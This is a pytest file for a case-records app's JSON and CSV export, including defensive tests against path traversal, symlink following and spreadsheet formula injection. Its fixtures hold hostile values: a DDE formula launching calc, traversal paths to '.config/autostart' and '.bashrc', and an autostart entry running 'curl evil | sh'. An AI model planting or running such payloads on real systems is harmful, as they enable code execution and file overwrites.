"""Open export: the JSON document and the CSV files hold what is in the vault, and only that."""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import date, time
from pathlib import Path
from typing import Any

import pytest

from casefile.domain.dates import PartialDate
from casefile.errors import UnsafePathError
from casefile.services.open_formats.export import (
    ATTACHMENTS_FOLDER,
    JSON_FILE_NAME,
    ExportTargetError,
    export_csv,
    export_json,
)
from casefile.services.open_formats.values import (
    UNENCRYPTED_WARNING,
    split_list_cell,
    to_csv_text,
    to_json,
    unescape_formula,
)
from casefile.services.records.attachments import add_attachment
from casefile.services.records.drafts import save_record
from casefile.services.records.trash import move_to_trash
from casefile.vault.vault import Vault

NAME = "Айпери Тажибек кызы"


def _fill(vault: Vault) -> tuple[str, str, str]:
    person_id = save_record(
        vault,
        "persons",
        None,
        {
            "full_name": NAME,
            "birth_date": "c. April 1990",
            "name_variants": ["Aiperi Tazhibek kyzy", "Айпери; Тажибекова"],
            "roles": ["journalist"],
            "notes": "=cmd|' /C calc'!A0",
        },
    )
    case_id = save_record(
        vault, "cases", None, {"title": "Дело Кемпир-Абад", "case_numbers": ["123-2024"]}
    )
    hearing_id = save_record(
        vault,
        "hearings",
        None,
        {"case_id": case_id, "scheduled_date": date(2024, 5, 6), "scheduled_time": time(10, 30)},
    )
    return person_id, case_id, hearing_id


def test_json_export_holds_the_values_in_documented_forms(vault: Vault, tmp_path: Path) -> None:
    person_id, case_id, hearing_id = _fill(vault)
    result = export_json(vault, tmp_path / "out")
    assert result.warning == UNENCRYPTED_WARNING
    assert result.files == (tmp_path / "out" / JSON_FILE_NAME,)
    doc = json.loads((tmp_path / "out" / JSON_FILE_NAME).read_text(encoding="utf-8"))
    assert doc["format"] == "casefile-export"
    assert doc["format_version"] == 1
    assert doc["warning"] == UNENCRYPTED_WARNING
    (person,) = doc["tables"]["persons"]
    assert person["id"] == person_id
    assert person["full_name"] == NAME
    assert person["birth_date"] == {"value": "1990-04", "approximate": True}
    assert person["name_variants"] == ["Aiperi Tazhibek kyzy", "Айпери; Тажибекова"]
    assert person["roles"] == ["journalist"]
    assert person["deleted_at"] is None
    assert person["version"] == 1
    (hearing,) = doc["tables"]["hearings"]
    assert hearing["id"] == hearing_id
    assert hearing["case_id"] == case_id
    assert hearing["scheduled_date"] == "2024-05-06"
    assert hearing["scheduled_time"] == "10:30"
    assert doc["tables"]["cases"][0]["case_numbers"] == ["123-2024"]
    assert result.counts["persons"] == 1
    assert any(term["code"] == "police_custody" for term in doc["vocabulary_terms"])
    # Cyrillic is written as itself, not as \u escapes.
    assert NAME.encode() in (tmp_path / "out" / JSON_FILE_NAME).read_bytes()


def test_files_are_owner_only(vault: Vault, tmp_path: Path) -> None:
    _fill(vault)
    export_json(vault, tmp_path / "out")
    if os.name == "posix":
        assert (tmp_path / "out" / JSON_FILE_NAME).stat().st_mode & 0o777 == 0o600
    assert not [p for p in (tmp_path / "out").iterdir() if p.name.endswith(".tmp")]


def test_trash_is_left_out_unless_asked(vault: Vault, tmp_path: Path) -> None:
    person_id, _case_id, _hearing_id = _fill(vault)
    move_to_trash(vault, "persons", person_id)
    without = export_json(vault, tmp_path / "a")
    with_trash = export_json(vault, tmp_path / "b", include_trash=True)
    assert without.counts["persons"] == 0
    assert with_trash.counts["persons"] == 1
    doc = json.loads((tmp_path / "b" / JSON_FILE_NAME).read_text(encoding="utf-8"))
    assert doc["tables"]["persons"][0]["deleted_at"] is not None


def test_attachments_only_when_asked(vault: Vault, tmp_path: Path) -> None:
    person_id, _case_id, _hearing_id = _fill(vault)
    content = b"%PDF scan of a court decision" * 1000
    attachment_id = add_attachment(
        vault, "persons", person_id, "Decision", io.BytesIO(content), file_name="../решение.pdf"
    )
    plain = export_json(vault, tmp_path / "plain")
    assert plain.attachment_files == 0
    assert not (tmp_path / "plain" / ATTACHMENTS_FOLDER).exists()
    doc = json.loads((tmp_path / "plain" / JSON_FILE_NAME).read_text(encoding="utf-8"))
    assert doc["tables"]["attachments"][0]["path"] is None

    full = export_json(vault, tmp_path / "full", include_attachments=True)
    assert full.attachment_files == 1
    written = tmp_path / "full" / ATTACHMENTS_FOLDER / attachment_id / "_решение.pdf"
    assert written.read_bytes() == content
    doc = json.loads((tmp_path / "full" / JSON_FILE_NAME).read_text(encoding="utf-8"))
    assert doc["tables"]["attachments"][0]["path"] == (
        f"{ATTACHMENTS_FOLDER}/{attachment_id}/_решение.pdf"
    )

    csv_full = export_csv(vault, tmp_path / "csv", include_attachments=True)
    assert (tmp_path / "csv" / ATTACHMENTS_FOLDER / attachment_id / "_решение.pdf").exists()
    assert csv_full.attachment_files == 1
    csv_plain = export_csv(vault, tmp_path / "csv2")
    assert csv_plain.attachment_files == 0
    assert not (tmp_path / "csv2" / ATTACHMENTS_FOLDER).exists()


def _read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 Cyrillic correctly
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_csv_export_one_file_per_table(vault: Vault, tmp_path: Path) -> None:
    person_id, case_id, _hearing_id = _fill(vault)
    result = export_csv(vault, tmp_path / "csv")
    names = {path.name for path in result.files}
    assert {"persons.csv", "cases.csv", "hearings.csv", "vocabulary_terms.csv"} <= names
    (person,) = _read_csv(tmp_path / "csv" / "persons.csv")
    assert person["id"] == person_id
    assert person["full_name"] == NAME
    assert person["birth_date"] == "1990-04~"
    assert PartialDate.parse(person["birth_date"]) == PartialDate(1990, 4, approximate=True)
    assert split_list_cell(person["name_variants"]) == [
        "Aiperi Tazhibek kyzy",
        "Айпери; Тажибекова",
    ]
    # A formula-like cell is defused for spreadsheets and restored on import.
    assert person["notes"].startswith("'=")
    assert unescape_formula(person["notes"]) == "=cmd|' /C calc'!A0"
    (hearing,) = _read_csv(tmp_path / "csv" / "hearings.csv")
    assert hearing["case_id"] == case_id
    assert hearing["scheduled_date"] == "2024-05-06"
    assert hearing["scheduled_time"] == "10:30"
    assert hearing["closed_to_public"] == "false"


def test_an_earlier_export_is_not_overwritten(vault: Vault, tmp_path: Path) -> None:
    _fill(vault)
    export_json(vault, tmp_path / "out")
    before = (tmp_path / "out" / JSON_FILE_NAME).read_bytes()
    with pytest.raises(ExportTargetError):
        export_json(vault, tmp_path / "out")
    assert (tmp_path / "out" / JSON_FILE_NAME).read_bytes() == before
    export_json(vault, tmp_path / "out", overwrite=True)
    (tmp_path / "file").write_text("x")
    with pytest.raises(ExportTargetError):
        export_csv(vault, tmp_path / "file")


@pytest.mark.parametrize(
    ("items", "cell"),
    [
        ([], ""),
        (["one"], "one"),
        (["a", "b"], "a\nb"),
        (["a; b"], "a; b\n"),
        (["-x"], "'-x"),
    ],
)
def test_list_cells_round_trip(items: list[str], cell: str) -> None:
    assert to_csv_text(items) == cell
    assert split_list_cell(unescape_formula(cell)) == items


def test_partial_date_forms() -> None:
    assert to_json(PartialDate(2024)) == {"value": "2024", "approximate": False}
    assert to_json(PartialDate(2024, 4, 12)) == {"value": "2024-04-12", "approximate": False}
    assert to_csv_text(PartialDate(2023, approximate=True)) == "2023~"


# -- names and places come from the app, never from a record ---------------------------------

EVIL_ID = "../../../.config/autostart"
EVIL_BYTES = b"[Desktop Entry]\nExec=sh -c 'curl evil | sh'\n"


def _plant(vault: Vault, attachment_id: str, file_name: str | None, data: bytes) -> None:
    """An attachment row as a hostile bundle could leave it, written past every check."""
    from sqlalchemy import text

    person_id = save_record(vault, "persons", None, {"full_name": "Planted"})
    real_id = add_attachment(vault, "persons", person_id, "Planted", io.BytesIO(data), "x.bin")
    with vault.write() as session:
        session.execute(text("PRAGMA defer_foreign_keys = ON"))
        session.execute(
            text("UPDATE attachment_chunks SET attachment_id = :new WHERE attachment_id = :old"),
            {"new": attachment_id, "old": real_id},
        )
        session.execute(
            text("UPDATE attachments SET id = :new, file_name = :name WHERE id = :old"),
            {"new": attachment_id, "name": file_name, "old": real_id},
        )


def _files_under(folder: Path) -> set[str]:
    return {p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()}


@pytest.mark.parametrize("export", [export_json, export_csv])
def test_a_hostile_attachment_id_stays_inside_the_export_folder(
    vault: Vault, tmp_path: Path, export: Any
) -> None:
    _plant(vault, EVIL_ID, "evil.desktop", EVIL_BYTES)
    home = tmp_path / "home"
    folder = home / "exports" / "out"
    outside_before = _files_under(tmp_path)
    result = export(vault, folder, include_attachments=True)
    created = _files_under(tmp_path) - outside_before
    # Everything written lies inside the folder, nothing reached home/.config/autostart.
    assert created and all(name.startswith("home/exports/out/") for name in created)
    assert not (home / ".config").exists() and not (tmp_path / ".config").exists()
    (written,) = [p for p in (folder / ATTACHMENTS_FOLDER).rglob("*") if p.is_file()]
    assert written.read_bytes() == EVIL_BYTES  # the bytes are kept, under a name we made
    assert written.name == "evil.desktop"
    assert written.parent.name.startswith("unsafe-id-")
    assert written.parent.parent == folder / ATTACHMENTS_FOLDER
    assert result.attachment_files == 1
    assert not [p for p in folder.iterdir() if p.name.startswith("casefile-export-unfinished")]


def test_a_hostile_file_name_and_windows_device_names_are_made_safe(
    vault: Vault, tmp_path: Path
) -> None:
    good_id = "0b6f4b1c-7d8e-4f20-9a41-3c5d6e7f8a9b"
    _plant(vault, good_id, "../../../../.bashrc", b"bash")
    device_id = "1c7a5b2d-8e9f-4a31-8b52-4d6e7f8a9bac"
    _plant(vault, device_id, "CON.txt", b"con")
    nul_id = "2d8b6c3e-9fa0-4b42-9c63-5e7f8a9bacbd"
    _plant(vault, nul_id, "nul", b"nul")
    folder = tmp_path / "out"
    export_json(vault, folder, include_attachments=True)
    base = folder / ATTACHMENTS_FOLDER
    assert (base / good_id / "_.._.._.._.bashrc").read_bytes() == b"bash"
    assert (base / device_id / "_CON.txt").read_bytes() == b"con"
    assert (base / nul_id / "_nul").read_bytes() == b"nul"
    doc = json.loads((folder / JSON_FILE_NAME).read_text(encoding="utf-8"))
    paths = {row["id"]: row["path"] for row in doc["tables"]["attachments"]}
    assert paths[device_id] == f"{ATTACHMENTS_FOLDER}/{device_id}/_CON.txt"
    assert not (tmp_path / ".bashrc").exists()


@pytest.mark.skipif(os.name == "nt", reason="symbolic links need privileges on Windows")
@pytest.mark.parametrize("planted", [ATTACHMENTS_FOLDER, JSON_FILE_NAME])
def test_a_link_planted_in_the_export_folder_is_not_followed(
    vault: Vault, tmp_path: Path, planted: str
) -> None:
    person_id, _case_id, _hearing_id = _fill(vault)
    add_attachment(vault, "persons", person_id, "Scan", io.BytesIO(b"scan"), "scan.pdf")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim").write_bytes(b"keep me")
    folder = tmp_path / "out"
    folder.mkdir()
    target = outside if planted == ATTACHMENTS_FOLDER else outside / "victim"
    (folder / planted).symlink_to(target)
    for overwrite in (False, True):
        with pytest.raises(UnsafePathError, match="is a link") as raised:
            export_json(vault, folder, include_attachments=True, overwrite=overwrite)
        assert str(folder / planted) in str(raised.value)
    assert sorted(p.name for p in outside.iterdir()) == ["victim"]
    assert (outside / "victim").read_bytes() == b"keep me"
    assert sorted(p.name for p in folder.iterdir()) == [planted]  # the link, and nothing else


def test_a_failed_export_leaves_no_folder_and_keeps_an_earlier_one(
    vault: Vault, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    person_id, _case_id, _hearing_id = _fill(vault)
    add_attachment(vault, "persons", person_id, "Scan", io.BytesIO(b"scan"), "scan.pdf")
    from casefile.errors import VaultCorruptError
    from casefile.services.open_formats import export as open_export

    def damaged(*_args: object) -> Any:
        yield b"part"
        raise VaultCorruptError("damaged")

    monkeypatch.setattr(open_export, "verified_chunks", damaged)
    fresh = tmp_path / "new" / "out"
    with pytest.raises(VaultCorruptError):
        export_json(vault, fresh, include_attachments=True)
    assert not (tmp_path / "new").exists()  # the folders made for it went with it

    earlier = tmp_path / "earlier"
    monkeypatch.undo()
    export_json(vault, earlier, include_attachments=True)
    before = _files_under(earlier)
    contents = {name: (earlier / name).read_bytes() for name in before}
    monkeypatch.setattr(open_export, "verified_chunks", damaged)
    with pytest.raises(VaultCorruptError):
        export_json(vault, earlier, include_attachments=True, overwrite=True)
    assert {name: (earlier / name).read_bytes() for name in _files_under(earlier)} == contents
